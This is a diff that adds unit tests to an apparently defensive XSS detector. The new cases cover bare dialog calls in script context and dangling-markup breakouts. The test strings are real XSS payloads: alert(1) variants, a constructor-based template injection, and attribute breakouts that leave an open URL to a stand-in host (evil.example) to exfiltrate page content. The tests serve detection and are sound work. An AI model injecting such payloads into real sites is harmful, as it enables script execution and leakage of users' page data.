@@ -160,6 +160,33 @@ describe('detectXss inside a JS string', () => {
   });
 });
 
+describe('detectXss where the value lands in script unquoted', () => {
+  it('flags a value that is nothing but a dialog call', () => {
+    expect(fingerprint('alert(1)')).toBe('js-bare+call');
+    expect(fingerprint('alert`1`')).toBe('js-bare+call');
+    expect(fingerprint('alert(1)//')).toBe('js-bare+call');
+    expect(fingerprint("top['confirm'](document.domain);")).toBe('js-bare+call');
+  });
+
+  it('leaves prose, other calls and calls that cannot run alone', () => {
+    for (const value of ['please alert(1) the team', 'ALERT(1)', 'print("hello")', 'max(1, 2)', 'alert level (high)', 'confirm']) {
+      expect(detectXss(value)).toBeUndefined();
+    }
+  });
+});
+
+describe('detectXss for dangling markup', () => {
+  it('flags an attribute breakout that leaves a URL to another origin open', () => {
+    expect(fingerprint("\"><img src='//evil.example/log?")).toBe('dangling-markup');
+    expect(fingerprint("'><a href=\"https://evil.example/?")).toBe('dangling-markup');
+  });
+
+  it('leaves an open same-site path, and an open URL without a breakout, alone', () => {
+    expect(detectXss("\"><img src='/static/a.png")).toBeUndefined();
+    expect(detectXss('<img src="https://cdn.example.com/a.png')).toBeUndefined();
+  });
+});
+
 describe('detectXss in client-side templates', () => {
   it('flags expressions that reach the Function constructor or call a sink', () => {
     expect(fingerprint("{{constructor.constructor('alert(1)')()}}")).toBe('template:mustache+constructor');
